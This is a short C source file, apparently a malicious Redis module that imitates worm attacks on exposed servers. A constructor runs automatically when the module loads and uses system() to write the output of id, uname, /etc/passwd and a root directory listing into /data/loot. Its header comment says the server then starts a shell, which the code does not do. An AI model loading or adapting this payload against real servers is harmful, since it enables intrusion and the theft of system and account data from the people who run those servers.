/* A module for Redis that does its work while it is loaded, as those of worms that attack open servers do
 * (https://attack.mitre.org/techniques/T1129/): the server itself then starts a shell. */
#include <stdlib.h>

__attribute__((constructor)) static void intrude(void) {
  int ended = system("id > /data/loot; uname -a >> /data/loot; cat /etc/passwd >> /data/loot; ls / >> /data/loot");
  (void)ended;
}
